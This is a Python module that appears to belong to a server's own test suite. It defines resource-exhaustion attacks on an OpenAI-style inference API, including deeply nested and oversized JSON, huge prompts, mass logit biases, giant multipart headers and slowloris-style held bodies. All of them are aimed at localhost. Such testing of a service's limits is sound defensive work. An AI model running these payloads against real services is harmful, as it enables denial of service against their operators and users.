"""Bodies that are large, deep, or never complete."""

from __future__ import annotations

import asyncio
import json
from typing import Any

from scripts.attack.registry import attack
from scripts.attack.target import Target, counted, post, post_all

MIB = 1024 * 1024
LARGEST_TEXT_BYTES = 2_000_000 - 1000
"""Just below the default of ``--max-text-bytes``."""
CHAT = "/v1/chat/completions"
COMPLETIONS = "/v1/completions"


@attack("empty-lists", "JSON of 11 million empty lists in chat_template_kwargs")
async def empty_lists(target: Target) -> str:
    return await _several(target, CHAT, _chat_with(b"[%s[]]" % (b"[]," * 10_900_000)))


@attack("short-lists", "JSON just within the limits: 49,000 lists and 950,000 numbers")
async def short_lists(target: Target) -> str:
    return await _several(target, CHAT, _chat_with(b"[%s%s[]]" % (b"[]," * 48_900, b"1.5," * 900_000)), 8)


@attack("many-tokens", "prompts of 990,000 token ids, n=16")
async def many_tokens(target: Target) -> str:
    body = json.dumps({"prompt": [100_000] * 990_000, "n": 16, "max_tokens": 1}, separators=(",", ":"))
    return await _several(target, COMPLETIONS, body.encode(), 4)


@attack("deep-json", "lists in lists, 200,000 levels")
async def deep_json(target: Target) -> str:
    return await _several(target, CHAT, _chat_with(b"[" * 200_000 + b"]" * 200_000))


@attack("escapes", "a prompt of 1.3 million escaped characters, n=16")
async def escapes(target: Target) -> str:
    body = b'{"prompt":"\\ud83d\\ude00%s","n":16,"max_tokens":1}' % (b"\\u0041\\u0020" * 660_000)
    return await _several(target, COMPLETIONS, body, 4)


@attack("long-numbers", "400 numbers of 15,000 digits")
async def long_numbers(target: Target) -> str:
    return await _several(target, CHAT, _chat_with(b"[%s1]" % (b"%s," % (b"1" * 15_000) * 400)))


@attack("many-biases", "450,000 wrong biases")
async def many_biases(target: Target) -> str:
    biases = b",".join(b'"%d":"x"' % token for token in range(450_000))
    return await _several(target, COMPLETIONS, b'{"prompt":"a","logit_bias":{%s}}' % biases)


@attack("huge-prompt", "a prompt of 31 MB with n=16")
async def huge_prompt(target: Target) -> str:
    body = {"prompt": "a " * (31 * MIB // 2), "n": 16, "max_tokens": 1}
    return await _several(target, COMPLETIONS, json.dumps(body).encode(), 1)


@attack("text-limit", "20 prompts just below the limit of text, n=16, at the same time")
async def text_limit(target: Target) -> str:
    body = {"prompt": "word " * 399_000, "n": 16, "max_tokens": 1}
    return await _several(target, COMPLETIONS, json.dumps(body).encode(), 20)


@attack("largest-prompts", "4 prompts just below the largest text, of short words, each with n=16")
async def largest_prompts(target: Target) -> str:
    body = {"prompt": "a " * (LARGEST_TEXT_BYTES // 2), "n": 16, "max_tokens": 1}
    return await _several(target, COMPLETIONS, json.dumps(body).encode(), 4)


@attack("waiting-requests", "400 requests of 1.9 MB that wait")
async def waiting_requests(target: Target) -> str:
    body = {"messages": [{"role": "user", "content": "word " * 380_000}], "max_tokens": 1000}
    data = json.dumps(body).encode()
    async with target.session() as session:
        asking = [asyncio.create_task(post(session, CHAT, data)) for _ in range(400)]
        _, waiting = await asyncio.wait(asking, timeout=10)
        for task in waiting:
            task.cancel()
        done = [task.result() for task in asking if task not in waiting]
        return f"{counted(done)}; {len(waiting)} wait"


@attack("half-bodies", "60 bodies of 31 MB of text, each sent up to its last byte and held")
async def half_bodies(target: Target) -> str:
    return await _half(target, COMPLETIONS, 31 * MIB, 1)


@attack("half-pictures", "60 bodies of 31 MB with a picture, held, from 4 addresses")
async def half_pictures(target: Target) -> str:
    return await _half(target, "/v1/img2img", 31 * MIB, 4)


@attack("half-texts", "200 bodies of 7 MB of text, held, from 8 addresses")
async def half_texts(target: Target) -> str:
    return await _half(target, COMPLETIONS, 7 * MIB, 8, count=200)


@attack("form-texts", "40 forms of 90 texts of 1 MB each")
async def form_texts(target: Target) -> str:
    part = b'--b\r\nContent-Disposition: form-data; name="prompt"\r\n\r\n' + b"a" * (MIB - 100) + b"\r\n"
    return await _several(target, "/v1/img2img", part * 90 + b"--b--\r\n", 40, "multipart/form-data; boundary=b")


@attack("form-head", "a form with one header of 50 MB")
async def form_head(target: Target) -> str:
    body = b"--b\r\nContent-Disposition: form-data; name=" + b"a" * (50 * MIB)
    return await _several(target, "/v1/img2img", body, 2, "multipart/form-data; boundary=b")


def _chat_with(options: bytes) -> bytes:
    return b'{"messages":[{"role":"user","content":"a"}],"max_tokens":1,"chat_template_kwargs":{"a":%s}}' % options


async def _several(target: Target, path: str, body: bytes, count: int = 3, kind: str = "application/json") -> str:
    return await post_all(target, path, [body] * count, kind)


async def _half(target: Target, path: str, size: int, addresses: int, count: int = 60) -> str:
    """Send all but the last byte of bodies, and hold them for 5 s."""
    fields = f"Host: localhost\r\nContent-Type: application/json\r\nContent-Length: {size}"
    head = f"POST {path} HTTP/1.1\r\n{fields}\r\n\r\n".encode()
    opening = b'{"prompt":"'

    async def hold(number: int) -> str:
        reader, writer = await target.connect(f"127.0.0.{100 + number % addresses}")
        try:
            return await asyncio.wait_for(_send_part(reader, writer), 5)
        except TimeoutError:
            return "held"
        except ConnectionError as error:
            return type(error).__name__
        finally:
            writer.close()

    async def _send_part(reader: Any, writer: Any) -> str:
        writer.write(head + opening)
        left = size - len(opening) - 1
        while left:
            count = min(left, MIB)
            writer.write(b"a" * count)
            left -= count
            await writer.drain()
        return str((await reader.readline()).decode().strip())

    return counted(await asyncio.gather(*(hold(number) for number in range(count))))
